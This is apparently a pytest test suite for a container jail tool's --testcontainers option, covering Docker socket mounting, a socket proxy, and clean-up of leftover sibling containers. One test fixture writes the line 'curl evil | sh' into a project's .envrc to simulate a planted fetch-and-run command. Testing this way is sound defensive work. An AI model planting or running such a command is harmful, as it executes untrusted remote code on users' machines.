"""--testcontainers: one engine call, the right socket, and nothing of it without the flag."""
import json
import os
import socket
import subprocess
import threading

import pytest


def give(host, path) -> None:
    if host.uid is not None:
        os.chown(path, host.uid, host.uid)


@pytest.fixture
def listener(host):
    """An engine's socket that is the caller's; the proxy looks whether somebody listens."""
    path = host.directory / "engine.sock"
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(path))
        listening.listen(8)
        give(host, path)
        host.env["DOCKER_HOST"] = f"unix://{path}"
        yield path


def test_the_socket_comes_with_one_engine_call(host, listener):
    result = host.run("--testcontainers", ".")
    assert result.code == 0
    (call,) = host.fakes.calls
    assert call.mounts["/var/run/docker.sock"] == str(listener)
    assert {"DOCKER_HOST=unix:///var/run/docker.sock", "TESTCONTAINERS_HOST_OVERRIDE=host.docker.internal",
            f"TESTCONTAINERS_DOCKER_SOCKET_OVERRIDE={listener}"} <= set(call.values("-e"))
    assert call.values("--add-host") == ["host.docker.internal:host-gateway"]
    assert call.values("--group-add") == []  # it is the caller's own
    assert len(result.err.splitlines()) == 1 and "other walls no longer hold" in result.err


def test_the_proxy_stands_between_and_goes_with_the_jail(host, listener):
    host.fakes.on("run", "[ -S \"$HOME/.config/jailed/sessions/\"*/docker.sock ] && note there")
    listener.unlink()  # an engine that answers the clean-up
    script = host.directory / "engine.py"
    script.write_text(
        "import socket, sys\n"
        "s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(8); print('up', flush=True)\n"
        "while True:\n"
        "    c, _ = s.accept(); seen = c.recv(65536).decode()\n"
        "    if not seen: continue\n"
        "    body = '{\"Volumes\":[]}' if '/volumes' in seen else '[]'\n"
        "    c.sendall(f'HTTP/1.1 200 OK\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}'.encode()); c.close()\n")
    engine = subprocess.Popen(["/usr/bin/python3", script, listener], stdout=subprocess.PIPE)
    try:
        assert engine.stdout and engine.stdout.readline() == b"up\n"
        give(host, listener)
        result = host.run("--testcontainers=proxy", ".")
    finally:
        engine.kill()
        engine.wait()
    assert result.code == 0 and result.err == ""
    (call,) = host.fakes.calls
    source = call.mounts["/var/run/docker.sock"]
    assert source.startswith(str(host.config / "sessions")) and source.endswith("/docker.sock")
    assert "TESTCONTAINERS_RYUK_DISABLED=true" in call.values("-e")
    assert host.fakes.notes == ["there"] and host.sessions == []


def test_nothing_of_it_without_the_flag(host, listener):
    assert host.run(".").code == 0
    (call,) = host.fakes.calls
    assert not any("docker.sock" in word or "TESTCONTAINERS" in word for word in call.args)


def test_the_variable_switches_it_on_and_the_flag_beats_it(host, listener):
    assert "/var/run/docker.sock" in host.run("--dry-run", ".", env={"JAILED_TESTCONTAINERS": "socket"}).out
    assert "docker.sock" not in host.run("--dry-run", "--testcontainers=off", ".", env={"JAILED_TESTCONTAINERS": "proxy"}).out


def test_a_context_names_the_socket_without_an_engine_call(host, listener):
    meta = host.home / ".docker/contexts/meta/0123"
    meta.mkdir(parents=True)
    (meta / "meta.json").write_text(json.dumps({"Name": "mine", "Endpoints": {"docker": {"Host": f"unix://{listener}"}}}))
    (host.home / ".docker/config.json").write_text('{"currentContext": "mine"}')
    host.give(host.home)
    assert str(listener) in host.run("--dry-run", "--testcontainers", ".", env={"DOCKER_HOST": None}).out
    assert host.fakes.calls == []


def test_a_socket_that_is_missing_or_closed_ends_it_before_the_engine(host, listener):
    missing = host.run("--testcontainers", ".", env={"DOCKER_HOST": "unix:///nonexistent"})
    assert missing.code == 125 and "/nonexistent does not exist" in missing.err and "systemctl" in missing.err
    if host.uid is not None:
        os.chown(listener, 0, 4)
        os.chmod(listener, 0o660)
        closed = host.run("--testcontainers", ".")
        assert closed.code == 125 and "permission denied" in closed.err and "usermod -aG adm" in closed.err
    remote = host.run("--testcontainers", ".", env={"DOCKER_HOST": "ssh://there"})
    assert remote.code == 125 and "no unix socket of this machine" in remote.err
    assert host.run("--testcontainers=all", ".").code == 2
    assert host.fakes.calls == []


@pytest.fixture
def mute(host, listener):
    """An engine's socket behind which every connection is closed without a word."""
    with socket.socket(socket.AF_UNIX) as closing:
        listener.unlink()
        closing.bind(str(listener))
        closing.listen(8)
        give(host, listener)

        def serve() -> None:
            while True:
                try:
                    closing.accept()[0].close()
                except OSError:
                    return

        threading.Thread(target=serve, daemon=True).start()
        yield


LEFT = "c" * 64


@pytest.mark.parametrize("kept", [False, True])
def test_what_the_proxy_cannot_remove_is_told_and_removed_later(host, mute, kept):
    """Its exit status was not looked at: with the session went all that anybody knew of it."""
    if kept:
        host.fakes.on("run", "/bin/mkdir -p .envrc.d; echo 'curl evil | sh' >.envrc")
    result = host.run("--testcontainers=proxy", ".", timeout=60)
    (session,) = host.sessions
    assert "Not all that this jail made through --testcontainers=proxy is removed" in result.err and f"jailed.sibling={session}" in result.err
    other = host.mkdir("other")
    host.fakes.on("run", "exit 0")
    host.fakes.on("ps", f'case " $* " in *" label=jailed.sibling={session} "*) [ -e "$fake/gone" ] || echo {LEFT};; esac')
    host.fakes.on("rm", "echo 'device or resource busy' >&2; exit 1")
    result = host.run(other, "--", "true")
    assert (result.code, host.sessions) == (0, [session]) and "device or resource busy" in result.err
    host.fakes.on("rm", 'echo >"$fake/gone"')
    result = host.run(other, "--", "true")
    assert result.code == 0 and "testcontainers" not in result.err
    assert any(call.args == ["rm", "--force", "--volumes", LEFT] for call in host.fakes.calls)
    assert not any((host.config / "sessions").rglob("docker.sock"))
    assert host.sessions == ([session] if kept else [])


def test_a_file_that_the_user_changed_since_is_not_taken_for_the_jails(host, mute):
    host.run("--testcontainers=proxy", ".", timeout=60)
    (host.project / ".envrc").write_text("mine")
    assert ".envrc" not in host.run(host.mkdir("other"), "--", "true").err
    assert (host.project / ".envrc").read_text() == "mine" and host.sessions == []


def test_what_another_engine_has_is_not_taken_for_removed(host, mute):
    host.run("--testcontainers=proxy", ".", timeout=60)
    (session,) = host.sessions
    host.fakes.add("podman")
    result = host.run("--runtime", "podman", host.mkdir("other"), "--", "true")
    assert host.sessions == [session] and "is with another engine" in result.err


def test_no_work_is_said_to_be_lost_where_only_siblings_are_left(host, mute):
    """The next launch, with another engine, took the session of a jail whose files were home for one that was killed."""
    host.install_mutagen()
    host.run("--testcontainers=proxy", ".", timeout=60)
    (session,) = host.sessions
    host.fakes.add("podman")
    result = host.run("--runtime", "podman", "--sync", "bind", ".", "--", "true")
    assert host.sessions == [session] and "is with another engine" in result.err
    assert "was killed" not in result.err and "last work" not in result.err
